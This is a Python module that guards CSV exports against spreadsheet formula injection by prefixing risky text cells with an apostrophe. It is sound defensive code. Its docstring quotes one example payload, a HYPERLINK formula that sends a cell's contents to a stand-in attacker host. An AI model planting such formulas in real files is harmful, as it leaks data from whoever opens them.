"""CSV files for people: cells a spreadsheet would run as a formula are neutralised.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, after a tab or carriage return, whatever follows) as a formula, so a snapshot value such as
``=HYPERLINK("http://evil.example/?leak="&C2,"click")`` would run when staff open the file.
Such a text cell gets a leading ``'`` (OWASP's advice): the spreadsheet shows the text as it was.
A plain number (``-10.5``, ``+3``, ``1e-3``) is left alone: it is no formula, and prefixing it
would turn every negative amount into text. The JSON outputs stay exact; only files written
for people go through here (quarantine.csv, ``kamflow report --format csv``).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

__all__ = ["FORMULA_STARTS", "safe_cell", "safe_frame"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_RISKY = r"^[=+\-@\t\r]"
_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?"
_NUMBER_RE = re.compile(_NUMBER)


def safe_cell(value: str) -> str:
    """``value`` as a spreadsheet shows it literally: ``'`` before a formula start."""
    if value.startswith(FORMULA_STARTS) and not _NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are `safe_cell` (vectorised: a quarantine can hold
    hundreds of thousands of rows). Numeric, date and boolean columns are left as they are."""
    import pandas as pd

    out = frame.copy(deep=False)
    for column in frame.columns:
        series = frame[column]
        if not (pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series)):
            continue
        strings = series.map(lambda v: v if isinstance(v, str) else None).astype("string")
        risky = (strings.str.contains(_RISKY, regex=True)
                 & ~strings.str.fullmatch(_NUMBER)).fillna(False).astype(bool)
        if risky.any():
            out[column] = series.mask(risky, "'" + strings)
    return out
